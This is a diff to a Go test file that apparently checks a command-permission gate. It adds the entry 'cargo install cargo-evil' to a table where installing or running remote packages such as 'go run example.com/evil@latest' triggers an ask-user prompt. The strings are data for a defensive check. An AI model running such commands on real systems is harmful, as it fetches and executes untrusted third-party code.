@@ -33,6 +33,7 @@ func TestForeignCode(t *testing.T) {
 		"go run example.com/evil@latest":                   chain.AskUser,
 		"go install example.com/evil@v1":                   chain.AskUser,
 		"go install ./cmd/x":                               "",
+		"cargo install cargo-evil":                         chain.AskUser,
 		"cargo install evil":                               chain.AskUser,
 		"cargo install --path .":                           "",
 		"cargo install cargo-nextest --locked":             "",
